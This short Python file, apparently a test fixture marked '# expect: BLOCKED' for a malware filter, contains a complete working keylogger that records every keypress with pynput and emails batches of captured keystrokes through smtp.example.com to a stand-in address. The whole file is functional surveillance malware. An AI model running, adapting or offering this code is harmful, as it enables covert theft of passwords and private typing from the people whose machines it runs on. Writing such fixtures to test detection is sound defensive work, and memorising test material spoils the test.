# expect: BLOCKED
import smtplib
from email.mime.text import MIMEText
from pynput import keyboard

buffer = []

def on_press(key):
    buffer.append(str(key))
    if len(buffer) > 200:
        send("".join(buffer))
        buffer.clear()

def send(text):
    message = MIMEText(text)
    message["Subject"] = "log"
    with smtplib.SMTP("smtp.example.com", 587) as server:
        server.starttls()
        server.login("a@example.com", "pw")
        server.sendmail("a@example.com", "b@example.com", message.as_string())

with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
